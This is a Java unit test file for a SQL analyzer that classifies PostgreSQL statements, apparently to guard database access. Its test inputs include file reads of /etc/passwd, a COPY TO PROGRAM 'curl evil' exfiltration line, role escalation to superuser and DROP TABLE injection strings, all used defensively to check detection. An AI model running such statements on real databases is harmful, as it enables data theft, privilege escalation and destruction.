package io.portcullis.sql;

import static org.assertj.core.api.Assertions.assertThat;

import io.portcullis.document.SqlStatement;
import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SqlAnalyzerTest {

  private final SqlAnalyzer analyzer = new SqlAnalyzer(1000, Duration.ofMillis(500));

  /** A compact rendering: COMMAND|type|tables|functions|has_where|copy|setting. */
  private String render(String sql) {
    return analyzer.analyze(sql).statements().stream().map(SqlAnalyzerTest::render)
        .collect(Collectors.joining(" ; "));
  }

  private static String render(SqlStatement s) {
    if (s.parseError() != null) {
      return "UNKNOWN";
    }
    String tables = s.tables().stream()
        .map(t -> (t.schema() == null ? "" : t.schema() + ".") + t.name() + ":" + t.access().charAt(0))
        .collect(Collectors.joining(","));
    return s.command() + "|" + s.type() + "|" + tables + "|" + String.join(",", s.functions()) + "|"
        + (s.hasWhere() == null ? "" : s.hasWhere()) + "|"
        + (s.copy() == null ? "" : s.copy().direction() + " " + s.copy().endpoint()) + "|"
        + (s.setting() == null ? "" : s.setting());
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '~', textBlock = """
      SELECT * FROM customers ~ SELECT|read|customers:r||||
      select name from public.customers c join orders o on o.customer_id = c.id ~ SELECT|read|public.customers:r,orders:r||||
      SELECT * FROM "Weird Table" ~ SELECT|read|Weird Table:r||||
      SELECT * FROM U&"d\\0061t\\+000061" ~ SELECT|read|data:r||||
      SELECT (SELECT max(amount) FROM orders) ~ SELECT|read|orders:r|max|||
      WITH x AS (SELECT * FROM orders) SELECT * FROM x ~ SELECT|read|orders:r||||
      WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone ~ SELECT|write|orders:w||false||
      WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone ~ SELECT|write|orders:w||true||
      WITH n AS (INSERT INTO orders (status) VALUES ('a') RETURNING id) INSERT INTO log SELECT id FROM n ~ INSERT|write|log:w,orders:w||||
      SELECT * INTO copy_of FROM customers ~ SELECT INTO|write|copy_of:w,customers:r||||
      INSERT INTO orders (customer_id, amount) VALUES (1, 2.5) ~ INSERT|write|orders:w||||
      INSERT INTO orders SELECT * FROM orders_archive RETURNING id ~ INSERT|write|orders:w,orders_archive:r||||
      UPDATE orders SET status = 'x' WHERE id = 4 ~ UPDATE|write|orders:w||true||
      UPDATE orders SET status = 'x' ~ UPDATE|write|orders:w||false||
      DELETE FROM orders WHERE id = 1 ~ DELETE|write|orders:w||true||
      DELETE FROM orders ~ DELETE|write|orders:w||false||
      DROP TABLE orders ~ DROP TABLE|ddl|orders:w||||
      TRUNCATE orders ~ TRUNCATE|ddl|orders:w||||
      CREATE TABLE t (id int) ~ CREATE TABLE|ddl|t:w||||
      ALTER TABLE orders ADD COLUMN x int ~ ALTER TABLE|ddl|orders:w||||
      GRANT SELECT ON orders TO public ~ GRANT|admin|||||
      ALTER ROLE alice SUPERUSER ~ ALTER ROLE|admin|||||
      CREATE ROLE evil LOGIN ~ CREATE ROLE|admin|||||
      SELECT pg_read_file('/etc/passwd') ~ SELECT|read||pg_read_file|||
      SELECT pg_catalog.pg_read_file('/etc/passwd') ~ SELECT|read||pg_read_file|||
      SELECT * FROM pg_read_file('/etc/passwd') ~ SELECT|read||pg_read_file|||
      SELECT upper(lo_import('/etc/passwd')::text) ~ SELECT|read||upper,lo_import|||
      SELECT * FROM dblink('host=x', 'select 1') AS t(a int) ~ SELECT|read||dblink|||
      SELECT set_config('role', 'postgres', false) ~ SELECT|read||set_config|||
      SELECT pg_sleep(1) ~ SELECT|read||pg_sleep|||
      COPY orders TO STDOUT ~ COPY|read|orders:r|||to stdout|
      COPY orders FROM STDIN WITH (FORMAT csv) ~ COPY|write|orders:w|||from stdin|
      COPY orders TO PROGRAM 'curl evil' ~ COPY|admin|orders:r|||to program|
      COPY orders TO '/tmp/x' ~ COPY|admin|orders:r|||to file|
      COPY (SELECT pg_read_file('/x') FROM customers) TO STDOUT ~ COPY|read|customers:r|pg_read_file||to stdout|
      SET ROLE postgres ~ SET ROLE|session|||||role
      SET SESSION AUTHORIZATION postgres ~ SET SESSION AUTHORIZATION|session|||||session authorization
      SET search_path = evil, public ~ SET|session|||||search_path
      SET application_name = 'PostgreSQL JDBC Driver' ~ SET|session|||||application_name
      SET extra_float_digits TO 3 ~ SET|session|||||extra_float_digits
      SET LOCAL statement_timeout = 0 ~ SET|session|||||statement_timeout
      SET TIME ZONE 'UTC' ~ SET|session|||||timezone
      RESET ROLE ~ RESET ROLE|session|||||role
      RESET ALL ~ RESET|session|||||all
      SHOW TRANSACTION ISOLATION LEVEL ~ SHOW|session|||||transaction isolation level
      SHOW search_path ~ SHOW|session|||||search_path
      BEGIN ~ BEGIN|transaction|||||
      BEGIN ISOLATION LEVEL REPEATABLE READ ~ BEGIN|transaction|||||
      START TRANSACTION READ ONLY ~ START TRANSACTION|transaction|||||
      COMMIT ~ COMMIT|transaction|||||
      END ~ COMMIT|transaction|||||
      ROLLBACK ~ ROLLBACK|transaction|||||
      ROLLBACK TO SAVEPOINT s1 ~ ROLLBACK TO SAVEPOINT|transaction|||||
      SAVEPOINT s1 ~ SAVEPOINT|transaction|||||
      RELEASE SAVEPOINT s1 ~ RELEASE|transaction|||||
      DISCARD ALL ~ DISCARD|session|||||
      DEALLOCATE ALL ~ DEALLOCATE|session|||||
      DO $$ BEGIN PERFORM 1; END $$ ~ DO|other|||||
      PREPARE p AS DELETE FROM orders ~ PREPARE|other|||||
      EXECUTE p ~ EXECUTE|other|||||
      VACUUM orders ~ VACUUM|admin|||||
      select current_schema() ~ SELECT|read||current_schema|||
      SELECT abalance FROM pgbench_accounts WHERE aid = 48213 ~ SELECT|read|pgbench_accounts:r||||
      SELECT abalance FROM pgbench_accounts WHERE aid = $1 ~ SELECT|read|pgbench_accounts:r||||
      UPDATE pgbench_accounts SET abalance = abalance + -3 WHERE aid = 7 ~ UPDATE|write|pgbench_accounts:w||true||
      INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 1, 1, CURRENT_TIMESTAMP) ~ INSERT|write|pgbench_history:w||||
      EXPLAIN SELECT * FROM orders ~ EXPLAIN|read|orders:r||||
      SELECT E'it''s \\' ; DROP TABLE orders; --' ~ SELECT|read|||||
      SELECT 1 /* nested /* comment */ ; DROP TABLE x */ ~ SELECT|read|||||
      SELECT $q$ ; DROP TABLE orders $q$ ~ SELECT|read|||||
      SELECT ('/etc/passwd'::text).pg_read_file ~ SELECT|read||pg_read_file|||
      SELECT t.pg_read_file FROM lower('/etc/passwd') t ~ SELECT|read||lower,pg_read_file|||
      SELECT c.name, c.id FROM customers c ~ SELECT|read|customers:r||||
      DELETE FROM orders WHERE id = 1 RETURNING (SELECT email FROM customers LIMIT 1) ~ DELETE|write|orders:w,customers:r||true||
      INSERT INTO orders (status) VALUES ('x') RETURNING upper((SELECT ssn FROM customers)) ~ INSERT|write|orders:w,customers:r|upper|||
      SELEC * FROM orders ~ UNKNOWN
      SELECT 'unterminated ~ UNKNOWN
      SELECT 123abc ~ UNKNOWN
      """)
  void analysesStatements(String sql, String expected) {
    assertThat(render(sql)).isEqualTo(expected);
  }

  @Test
  void multiStatementTextYieldsEveryStatement() {
    assertThat(render("SELECT 1; DROP TABLE orders")).isEqualTo("SELECT|read||||| ; DROP TABLE|ddl|orders:w||||");
  }

  @Test
  void emptyTextHasNoStatements() {
    assertThat(analyzer.analyze(" ;; -- nothing\n/* at all */").statements()).isEmpty();
  }

  @Test
  void literalsShareOneCachedAnalysis() {
    SqlAnalysis first = analyzer.analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 48213");
    SqlAnalysis second = analyzer.analyze("select abalance from pgbench_accounts where aid = 7");
    assertThat(first.fromCache()).isFalse();
    assertThat(second.fromCache()).isTrue();
    assertThat(second.fingerprint()).isEqualTo(first.fingerprint());
    assertThat(second.normalized()).isEqualTo("select abalance from pgbench_accounts where aid = ?");
  }

  @Test
  void unusualSqlIsNeverCached() {
    String sql = "SELECT 'a\\b' FROM orders";
    assertThat(analyzer.analyze(sql).fingerprint()).isNull();
    assertThat(analyzer.analyze(sql).fromCache()).isFalse();
  }

  @Test
  void copyIsNeverCachedBecauseItsTargetIsALiteral() {
    assertThat(analyzer.analyze("COPY orders TO PROGRAM 'a'").fromCache()).isFalse();
    SqlAnalysis again = analyzer.analyze("COPY orders TO PROGRAM 'b'");
    assertThat(again.fromCache()).isFalse();
    assertThat(again.statements().get(0).copy().target()).isEqualTo("b");
  }

  @Test
  void parseErrorsSayWhy() {
    List<SqlStatement> s = analyzer.analyze("SELECT 'open").statements();
    assertThat(s).singleElement().satisfies(st -> {
      assertThat(st.command()).isEqualTo("UNKNOWN");
      assertThat(st.parseError()).contains("unterminated");
    });
  }

  @Test
  void deepNestingIsAParseErrorNotACrash() {
    String sql = "SELECT " + "(".repeat(5000) + "1" + ")".repeat(5000);
    assertThat(analyzer.analyze(sql).statements().get(0).parseError()).contains("nesting");
  }
}
